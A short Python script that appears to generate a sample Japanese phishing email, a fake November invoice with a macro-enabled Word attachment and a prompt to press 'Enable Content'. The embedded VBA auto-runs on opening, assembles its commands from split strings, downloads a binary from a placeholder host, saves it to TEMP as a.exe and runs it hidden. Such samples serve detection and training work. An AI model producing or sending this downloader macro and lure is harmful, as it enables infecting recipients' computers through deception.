"""A letter of Word whose macro fetches a program and starts it, in the way of the mails of
2015 to 2022; module names in Japanese, the commands put together from pieces."""
from kit import *

OPEN = '''Private Sub Document_Open()
    On Error Resume Next
    表示
    Hidden.Load
End Sub
Private Sub 表示()
    ActiveDocument.Content.Font.Color = wdColorAutomatic
End Sub
'''
HIDDEN = '''Public Sub Load()
    Dim x, s
    Set x = CreateObject("MSXML2." & "XMLHTTP")
    x.Open "GET", "htt" & "p://files.exam" & "ple.invalid/a.bin", False
    x.Send
    Set s = CreateObject("ADODB.Stream")
    s.SaveToFile Environ("TEMP") & "\\a.exe", 2
    Shell Environ("TEMP") & "\\a.exe", vbHide
End Sub
'''


def make():
    return (Mail("【ご請求書】11月分のご案内", "billing@example.net", charset="iso-2022-jp")
            .text("お世話になっております。\n11月分の請求書をお送りします。\n表示されない場合は「コンテンツの有効化」を押してください。\n")
            .attach("請求書.docm", office.docm({"ThisDocument": OPEN, "Hidden": HIDDEN}), charset="iso-2022-jp").bytes())
